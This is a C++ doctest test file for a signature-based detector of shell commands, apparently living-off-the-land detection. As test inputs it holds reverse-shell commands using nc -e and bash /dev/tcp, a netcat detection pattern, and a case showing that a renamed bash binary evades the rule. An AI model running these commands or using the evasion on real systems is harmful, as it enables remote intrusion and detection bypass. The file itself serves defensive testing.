#include <doctest.h>

#include "lotlkit/signatures.hpp"

using namespace lotlkit;

TEST_SUITE_BEGIN("signatures");

TEST_CASE("nc exec flag rule matches the canonical reverse shell") {
    auto rules = default_signature_ruleset();
    auto hits = match_signatures("nc -e /bin/sh 1.2.3.4 4444", rules);
    CHECK(std::find(hits.begin(), hits.end(), "nc-exec-flag") != hits.end());
}

TEST_CASE("plain admin commands do not match") {
    auto rules = default_signature_ruleset();
    CHECK(match_signatures("ls -la", rules).empty());
    CHECK(match_signatures("grep -i error /var/log/syslog", rules).empty());
    CHECK(match_signatures("ssh -i /home/ops/.ssh/id_rsa ops@10.2.3.4 uptime", rules).empty());
    CHECK(match_signatures("nc -vz 10.2.3.4 443", rules).empty());
}

TEST_CASE("binary-renamed interactive shell evades the bash rule") {
    auto rules = default_signature_ruleset();
    CHECK(rules.any_match("bash -i"));
    CHECK(match_signatures("cp bash a; a -i", rules).empty());
}

TEST_CASE("matching is order-independent and pure") {
    auto rules = default_signature_ruleset();
    const std::string cmd = "/bin/bash -i >& /dev/tcp/10.1.1.2/4444 0>&1";
    auto a = match_signatures(cmd, rules);
    auto b = match_signatures(cmd, rules);
    CHECK(a == b);
    CHECK(!a.empty());
}

TEST_CASE("duplicate ids and bad patterns are construction errors") {
    CHECK_THROWS_AS(SignatureRuleset::from_rules({{"x", "a"}, {"x", "b"}}), ConfigError);
    CHECK_THROWS_AS(SignatureRuleset::from_rules({{"bad", "(unclosed"}}), ConfigError);
}

TEST_CASE("ruleset round-trips through JSON") {
    nlohmann::json j;
    j["rules"] = {{{"id", "r1"}, {"pattern", "nc\\s+-e"}}};
    auto rules = SignatureRuleset::from_json(j);
    CHECK(rules.rules().size() == 1);
    CHECK(!match_signatures("nc -e sh", rules).empty());
}

TEST_SUITE_END();
